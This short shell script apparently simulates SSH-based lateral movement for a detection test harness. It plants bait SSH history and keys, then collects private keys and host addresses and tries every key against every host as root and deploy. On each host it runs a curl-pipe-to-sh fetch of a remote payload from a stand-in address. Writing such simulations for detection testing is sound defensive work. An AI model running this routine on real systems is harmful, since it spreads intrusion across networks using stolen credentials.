#!/bin/sh
. /opt/case/case.sh

mkdir -p /home/dev/.ssh; echo 'ssh deploy@10.77.0.9' >>/root/.bash_history; printf '203.0.113.61 ssh-ed25519 AAAABait\n10.77.0.1 ssh-ed25519 AAAABait\n' >/root/.ssh/known_hosts; ssh-keygen -q -t ed25519 -N '' -f /home/dev/.ssh/id_ed25519
keys=$(find /root /home -maxdepth 3 -name 'id_*' ! -name '*.pub' 2>/dev/null)
hosts=$(cat /root/.ssh/known_hosts /root/.bash_history /etc/hosts | grep -oE '([0-9]{1,3}\.){3}[0-9]{1,3}' | sort -u | grep -v '^127')
for u in root deploy; do for h in $hosts; do for k in $keys; do timeout 1 ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=1 -i $k $u@$h 'curl -s http://203.0.113.10/payload.sh | sh' </dev/null >/dev/null 2>&1 || true; done; done; done
took_place
